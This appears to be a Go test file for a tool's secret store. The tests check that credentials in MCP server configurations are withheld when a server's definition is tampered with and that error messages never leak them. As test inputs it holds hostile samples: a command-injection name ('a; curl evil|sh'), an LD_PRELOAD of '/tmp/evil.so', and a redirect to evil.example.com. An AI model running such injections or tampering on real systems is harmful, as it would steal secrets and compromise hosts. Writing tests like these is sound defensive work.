package config_test

import (
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/toolscript/toolscript"
	"github.com/toolscript/toolscript/cmd/config"
	"github.com/toolscript/toolscript/cmd/secrets"
	"github.com/toolscript/toolscript/transport/upstream"
)

const secretValue = "sesame-open-1234"

const github = `{"mcpServers": {"github": {"command": "github-server", "args": ["-v"], "env": {"TOKEN": "${secret:GITHUB_TOKEN}"}}}}`

// store stores a secret for servers with their current definitions.
func (s *scene) store(name string, servers ...string) {
	s.t.Helper()
	s.storeValue(name, secretValue, servers...)
}

func (s *scene) storeValue(name, value string, servers ...string) {
	s.t.Helper()
	o := s.options
	o.Identify, o.NoValues = true, true
	c, err := config.Load(o)
	if err != nil {
		s.t.Fatal(err)
	}
	var allowed []secrets.Binding
	for _, server := range servers {
		id, ok := c.Identities[server]
		if !ok {
			s.t.Fatalf("no identity of %s", server)
		}
		allowed = append(allowed, secrets.Binding{Server: server, File: id.File, Identity: id.Hash})
	}
	store, err := config.SecretStore(s.options)
	if err == nil {
		_, _, err = store.Set(s.t.Context(), secrets.New{Name: name, Value: value, Storage: secrets.File, Allowed: allowed})
	}
	if err != nil {
		s.t.Fatal(err)
	}
}

// wantNothing checks that no part of a configuration contains the value of the secret.
func wantNothing(t *testing.T, c *config.Config) {
	t.Helper()
	for name, server := range c.Servers {
		if text := fmt.Sprintf("%q %q %q %q %q %q", server.Env, server.Headers, server.URL, server.Args, server.API, server.Secrets); strings.Contains(text, secretValue) {
			t.Errorf("%s has the secret: %s", name, text)
		}
		if server.Problem == nil {
			t.Errorf("%s has no problem", name)
		}
	}
}

func TestSecretOfAServer(t *testing.T) {
	s := newScene(t)
	path := s.write(s.home, github)
	c := s.load()
	wantNothing(t, c)
	wantText(t, c.Servers["github"].Problem.Error(), "secret GITHUB_TOKEN is not set (env.TOKEN)", "toolscript secret set GITHUB_TOKEN --for github")
	want := []config.SecretRequest{{Name: "GITHUB_TOKEN", Server: "github", Fields: []string{"env.TOKEN"}, Missing: true}}
	c.Waiting[0].Identity = config.Identity{}
	if diff := cmp.Diff(want, c.Waiting); diff != "" {
		t.Error(diff)
	}
	s.store("GITHUB_TOKEN", "github")
	c = s.load()
	server := c.Servers["github"]
	if server.Problem != nil || server.Env["TOKEN"] != secretValue || len(c.Waiting) > 0 {
		t.Errorf("%v, TOKEN=%q, waiting %v", server.Problem, server.Env["TOKEN"], c.Waiting)
	}
	if diff := cmp.Diff(map[string]string{"${secret:GITHUB_TOKEN}": secretValue}, server.Secrets); diff != "" {
		t.Errorf("secrets that the redactor knows: %s", diff)
	}
	s.options.NoValues = true
	if server := s.load().Servers["github"]; server.Problem != nil || server.Env["TOKEN"] != "${secret:GITHUB_TOKEN}" {
		t.Errorf("without values: %v, TOKEN=%q", server.Problem, server.Env["TOKEN"])
	}
	s.options.NoValues = false
	for name, text := range map[string]string{
		"another format":    strings.ReplaceAll(github, " ", "\n"),
		"a tool filter":     strings.Replace(github, `"args"`, `"excludeTools": ["x"], "timeout": "5s", "args"`, 1),
		"a second server":   strings.Replace(github, `"github"`, `"other": {"command": "other"}, "github"`, 1),
		"the type in words": strings.Replace(github, `"args"`, `"type": "stdio", "args"`, 1),
	} {
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		if server := s.load().Servers["github"]; server.Problem != nil || server.Env["TOKEN"] != secretValue {
			t.Errorf("%s: %v", name, server.Problem)
		}
	}
}

// TestSecretStaysWithItsDefinition: if a definition changes in any part to which the secret is
// bound, no server gets the secret until a person confirms the change.
func TestSecretStaysWithItsDefinition(t *testing.T) {
	replaced := func(old, by string) func(*scene) {
		return func(s *scene) { s.write(s.home, strings.Replace(github, old, by, 1)) }
	}
	for name, attack := range map[string]func(*scene){
		"another program":           replaced("github-server", "evil"),
		"another argument":          replaced(`"-v"`, `"-v", "--log=/tmp/x"`),
		"another folder":            replaced(`"args"`, `"cwd": "/tmp", "args"`),
		"another variable":          replaced(`"env": {`, `"env": {"LD_PRELOAD": "/tmp/evil.so", `),
		"all variables":             replaced(`"args"`, `"inheritEnv": true, "args"`),
		"a shared server":           replaced(`"args"`, `"shared": true, "args"`),
		"an address":                replaced(`"command": "github-server", "args": ["-v"], "env"`, `"url": "https://evil.example.com", "headers"`),
		"another name":              replaced(`"github"`, `"git"`),
		"a project, not trusted":    func(s *scene) { s.write(s.project, github) },
		"a project, trusted":        func(s *scene) { s.write(s.project, github); s.trust() },
		"a project, with --trust":   func(s *scene) { s.write(s.project, github); s.options.Trust = true },
		"another named file":        func(s *scene) { s.layout("", "", github) },
		"a variable with a secret":  func(s *scene) { s.env["V"] = "${secret:GITHUB_TOKEN}"; replaced("${secret:GITHUB_TOKEN}", "${V}")(s) },
		"another data folder":       func(s *scene) { s.options.DataDir = filepath.Join(s.project, "data") },
		"a copy of the user's file": func(s *scene) { s.env["TOOLSCRIPT_CONFIG"] = s.write(s.project, github) },
	} {
		t.Run(name, func(t *testing.T) {
			s := newScene(t)
			s.write(s.home, github)
			s.store("GITHUB_TOKEN", "github")
			if s.load().Servers["github"].Problem != nil {
				t.Fatal("the server does not get the secret")
			}
			attack(s)
			c := s.load()
			if name == "a variable with a secret" {
				if got := c.Servers["github"].Env["TOKEN"]; got != "${secret:GITHUB_TOKEN}" {
					t.Errorf("the value of a variable became %q", got)
				}
				return
			}
			wantNothing(t, c)
			if strings.HasPrefix(name, "another p") {
				wantText(t, c.Servers["github"].Problem.Error(), "was confirmed for another definition", "at a terminal: toolscript secret confirm")
			}
		})
	}
}

// TestSecretAndVariables: the value of a variable in the program or the address is part of the
// definition. Values of other variables may change.
func TestSecretAndVariables(t *testing.T) {
	s := newScene(t)
	s.env["HOST"], s.env["OTHER"] = "good.example.com", "1"
	s.write(s.home, `{"mcpServers": {"api": {"url": "https://${HOST}/mcp", "headers": {"X": "${OTHER}", "Authorization": "Bearer ${secret:KEY}"}}}}`)
	s.store("KEY", "api")
	s.env["OTHER"] = "2"
	if server := s.load().Servers["api"]; server.Problem != nil || server.Headers["Authorization"] != "Bearer "+secretValue {
		t.Errorf("%v, %q", server.Problem, server.Headers)
	}
	s.env["HOST"] = "evil.example.com"
	wantNothing(t, s.load())
}

// TestSecretAndEveryVariable sets a variable in each field that determines who gets the secret.
func TestSecretAndEveryVariable(t *testing.T) {
	for _, server := range []string{
		`{"command": "${V}", "env": {"T": "${secret:KEY}"}}`,
		`{"command": "x", "args": ["-y", "${V}"], "env": {"T": "${secret:KEY}"}}`,
		`{"command": "x", "cwd": "/${V}", "env": {"T": "${secret:KEY}"}}`,
		`{"url": "https://x/${V}", "headers": {"T": "${secret:KEY}"}}`,
		`{"url": "https://x", "oauth": {"grant": "client_credentials", "clientId": "c", "clientSecret": "${secret:KEY}", "issuer": "https://${V}"}}`,
		`{"type": "openapi", "spec": "/${V}.yaml", "baseUrl": "https://x", "auth": {"type": "bearer", "token": "${secret:KEY}"}}`,
		`{"type": "openapi", "spec": "/x.yaml", "baseUrl": "https://${V}", "auth": {"type": "bearer", "token": "${secret:KEY}"}}`,
		`{"type": "graphql", "url": "https://${V}/g", "auth": {"type": "bearer", "token": "${secret:KEY}"}}`,
		`{"type": "command", "commands": {"a": {"run": ["${V}"]}}, "env": {"T": "${secret:KEY}"}}`,
		`{"type": "builtin", "root": "/", "tools": ["webSearch"], "web": {"search": {"provider": "brave", "key": "${secret:KEY}", "url": "https://${V}"}}}`,
	} {
		s := newScene(t)
		s.env["V"] = "good"
		s.write(s.home, `{"mcpServers": {"a": `+server+`}}`)
		s.store("KEY", "a")
		if problem := s.load().Servers["a"].Problem; problem != nil {
			t.Errorf("%s: %v", server, problem)
		}
		s.env["V"] = "evil"
		wantNothing(t, s.load())
	}
}

// FuzzSecretReferences puts any text where a secret may be: an error never contains the secret, and
// a text without a reference never gets it.
func FuzzSecretReferences(f *testing.F) {
	for _, text := range []string{"${secret:KEY}", "${secret:}", "${secret:KEY:-x}", "${V:-${secret:KEY}}", "$${secret:KEY}}", "${secret:${secret:KEY}}", "${SECRET:KEY}", "${V}{secret:KEY}"} {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		text = strings.ToValidUTF8(text, "?")
		file, err := json.Marshal(map[string]any{"mcpServers": map[string]any{"s": map[string]any{"command": "x", "env": map[string]string{"A": text}}}})
		if err != nil {
			t.Fatal(err)
		}
		s := newScene(t)
		s.env["V"] = "$"
		s.write(s.home, string(file))
		if _, err := config.Load(s.options); err != nil {
			if !strings.Contains(err.Error(), "mcpServers.s.env.A: ") || !strings.Contains(text, "${secret:") {
				t.Errorf("%q: %v", text, err)
			}
			return
		}
		s.store("KEY", "s")
		c := s.load()
		server := c.Servers["s"]
		has := strings.Contains(server.Env["A"], secretValue)
		if has != (server.Problem == nil && strings.Contains(strings.ReplaceAll(text, "$${", ""), "${secret:KEY}")) {
			t.Errorf("%q became %q, %v", text, server.Env["A"], server.Problem)
		}
		if server.Problem != nil && strings.Contains(server.Problem.Error(), secretValue) {
			t.Errorf("%q: %v", text, server.Problem)
		}
	})
}

// TestSecretIsAValue: references inside a secret are not expanded, and a URL may have a secret only
// in its path or query.
func TestSecretIsAValue(t *testing.T) {
	s := newScene(t)
	s.env["V"] = "variable"
	s.write(s.home, `{"mcpServers": {"a": {"url": "https://example.com/${secret:KEY}/mcp?key=${secret:KEY}&v=${V}", "headers": {"X": "${secret:KEY}"}}}}`)
	const odd = "${V}${secret:KEY}/../%zz?a=b&c #\x01@evil ü"
	s.storeValue("KEY", odd, "a")
	server := s.load().Servers["a"]
	if server.Problem != nil || server.Headers["X"] != odd || server.Secrets["${secret:KEY}"] != odd {
		t.Errorf("%v, header %q, secrets %q", server.Problem, server.Headers["X"], server.Secrets)
	}
	at, err := url.Parse(server.URL)
	if err != nil {
		t.Fatal(err)
	}
	if at.Host != "example.com" || at.Path != "/"+odd+"/mcp" || at.Query().Get("key") != odd || at.Query().Get("v") != "variable" || at.Fragment != "" {
		t.Errorf("%q", server.URL)
	}
	if text := upstream.NewRedactor(server).Line("GET " + server.URL); strings.Contains(text, "evil") || !strings.Contains(text, "https://example.com/${secret:KEY}/mcp") {
		t.Errorf("redacted: %s", text)
	}
}

// TestCommandsAreCopied: an error never suggests a command with a name that a shell would not
// read as one plain word.
func TestCommandsAreCopied(t *testing.T) {
	for name, want := range map[string]string{"git-hub.2": "toolscript secret set KEY --for git-hub.2", "a; curl evil|sh": "toolscript secret set KEY", "$(x)": "toolscript secret set KEY", "-x": "toolscript secret set KEY"} {
		if got := (config.SecretRequest{Name: "KEY", Server: name}).Command(); got != want {
			t.Errorf("%q: %q, want %q", name, got, want)
		}
	}
}

// TestSecretWithoutServer: a secret that is stored for no server is given to no server.
func TestSecretWithoutServer(t *testing.T) {
	s := newScene(t)
	s.write(s.home, github)
	s.store("GITHUB_TOKEN")
	c := s.load()
	wantNothing(t, c)
	problem := c.Servers["github"].Problem
	wantText(t, problem.Error(), "secret GITHUB_TOKEN is not confirmed for this server (env.TOKEN)", "at a terminal: toolscript secret confirm")
	if toolscript.KindOf(problem) != toolscript.Forbidden {
		t.Errorf("kind %s", toolscript.KindOf(problem))
	}
	if len(c.Waiting) != 1 || c.Waiting[0].Missing || c.Waiting[0].Hash == "" || !strings.Contains(c.Waiting[0].Definition, `"command": "github-server"`) {
		t.Errorf("waiting: %+v", c.Waiting)
	}
}

// TestSecretOfTheCommandLine: a server of --stdio or --url gets no secret.
func TestSecretOfTheCommandLine(t *testing.T) {
	s := newScene(t)
	s.store("KEY")
	s.options.Extra = config.Extra{"adhoc": json.RawMessage(`{"url": "https://evil.example.com/${secret:KEY}"}`)}
	c := s.load()
	wantNothing(t, c)
	wantText(t, c.Servers["adhoc"].Problem.Error(), "not given to a server of the command line")
}

// TestSecretPlaces tries a secret in each allowed place, and in others.
func TestSecretPlaces(t *testing.T) {
	const ref = `"${secret:KEY}"`
	for server, want := range map[string]string{
		`{"command": "x", "env": {"A.B": "a ${secret:KEY} b"}}`:                                                                               "",
		`{"url": "https://x/mcp", "headers": {"Authorization": "Bearer ${secret:KEY}"}}`:                                                      "",
		`{"url": "https://x/mcp?key=${secret:KEY}"}`:                                                                                          "",
		`{"url": "${BASE}/${secret:KEY}/mcp"}`:                                                                                                "",
		`{"url": "https://x", "oauth": {"grant": "client_credentials", "clientId": "c", "clientSecret": ` + ref + `}}`:                        "",
		`{"type": "openapi", "spec": "/x.yaml", "baseUrl": "https://x", "auth": {"type": "bearer", "token": ` + ref + `}}`:                    "",
		`{"type": "openapi", "spec": "/x.yaml", "baseUrl": "https://x", "auth": {"type": "basic", "username": "u", "password": ` + ref + `}}`: "",
		`{"type": "command", "commands": {"a": {"run": ["b"]}}, "env": {"A": ` + ref + `}}`:                                                   "",

		`{"command": ` + ref + `}`:                                                "mcpServers.s.command: a secret must not be an argument",
		`{"command": "x", "args": ["a", "--token=${secret:KEY}"]}`:                "mcpServers.s.args[1]: a secret must not be an argument",
		`{"type": "command", "commands": {"a": {"run": ["b", "${secret:KEY}"]}}}`: "mcpServers.s.commands.a.run[1]: a secret must not be an argument",
		`{"url": "https://u:${secret:KEY}@x/mcp"}`:                                "mcpServers.s.url: a secret in a url must be after the host",
		`{"url": "https://${secret:KEY}.x/mcp"}`:                                  "mcpServers.s.url: a secret in a url must be after the host",
		`{"url": "${secret:KEY}"}`:                                                "mcpServers.s.url: a secret in a url must be after the host",
		`{"url": "https://${H:-a/b}${secret:KEY}/"}`:                              "mcpServers.s.url: a secret in a url must be after the host",
		`{"command": "x", "cwd": "/${secret:KEY}"}`:                               "mcpServers.s.cwd: a secret has no place here",
		`{"command": "x", "timeout": ` + ref + `}`:                                "mcpServers.s.timeout: a secret has no place here",
		`{"url": "https://x", "oauth": {"issuer": "https://x/${secret:KEY}"}}`:    "mcpServers.s.oauth.issuer: a secret has no place here",
		`{"type": "openapi", "spec": "https://x/${secret:KEY}"}`:                  "mcpServers.s.spec: a secret has no place here",
		`{"command": "x", "env": {"A": "${secret:}"}}`:                            "mcpServers.s.env.A: the name of a secret",
		`{"command": "x", "env": {"A": "${secret:a b}"}}`:                         "mcpServers.s.env.A: the name of a secret",
		`{"command": "x", "env": {"A": "${secret:KEY:-d}"}}`:                      "mcpServers.s.env.A: a secret has no default",
		`{"command": "x", "env": {"A": "${V:-${secret:KEY}}"}}`:                   "mcpServers.s.env.A: a secret cannot be the default",
	} {
		s := newScene(t)
		s.env["BASE"] = "https://x"
		path := s.write(s.home, "{\"mcpServers\": {\n  \"s\": "+server+"}}")
		all := s.load().Mistakes
		if want == "" {
			if len(all) > 0 {
				t.Errorf("%s: %v", server, all)
				continue
			}
			s.store("KEY", "s")
			if problem := s.load().Servers["s"].Problem; problem != nil {
				t.Errorf("%s: %v", server, problem)
			}
			continue
		}
		if len(all) != 1 || !strings.Contains(all.Error(), want) {
			t.Errorf("%s: %v, want %q", server, all, want)
			continue
		}
		column := strings.Index(`  "s": `+server, `"`+strings.TrimPrefix(quotedWithSecret(server), `"`)) + 1
		if at := fmt.Sprintf("%s:2:%d: ", path, column); !strings.HasPrefix(all.Error(), at) {
			t.Errorf("%s: %v, want it at %s", server, all, at)
		}
	}
}

// quotedWithSecret returns the quoted string in a text that contains the secret.
func quotedWithSecret(text string) string {
	parts := strings.Split(text, `"`)
	at := slices.IndexFunc(parts, func(part string) bool { return strings.Contains(part, "${secret:") })
	return `"` + parts[at] + `"`
}

func TestSecretsAreForServers(t *testing.T) {
	for text, field := range map[string]string{
		`{"mcpServers": {}, "search": {"remote": {"url": "https://x", "model": "m", "key": "${secret:KEY}"}}}`: "search.remote.key",
		`{"mcpServers": {}, "providers": {"anthropic": {"model": "m", "key": "${secret:KEY}"}}}`:               "providers.anthropic.key",
		`{"mcpServers": {}, "fleet": {"url": "nats://u:${secret:KEY}@x"}}`:                                     "fleet.url",
		`{"mcpServers": {}, "check": "${secret:KEY}"}`:                                                         "check",
	} {
		if _, all := mistakes(t, text); len(all) != 1 || !strings.Contains(all.Error(), field+": secrets are for servers") {
			t.Errorf("%s: %v", text, all)
		}
	}
}

// TestUnreadableSecrets: if the store cannot be read, only the servers that need it are disabled.
func TestUnreadableSecrets(t *testing.T) {
	s := newScene(t)
	s.write(s.home, strings.Replace(github, `"github"`, `"other": {"command": "other"}, "github"`, 1))
	s.store("GITHUB_TOKEN", "github")
	store, err := config.SecretStore(s.options)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(filepath.Join(store.Dir, "key.txt")); err != nil {
		t.Fatal(err)
	}
	c := s.load()
	if c.Servers["other"].Problem != nil {
		t.Errorf("other: %v", c.Servers["other"].Problem)
	}
	wantText(t, c.Servers["github"].Problem.Error(), "github: the key of the secrets", "is missing", "(env.TOKEN)")
}
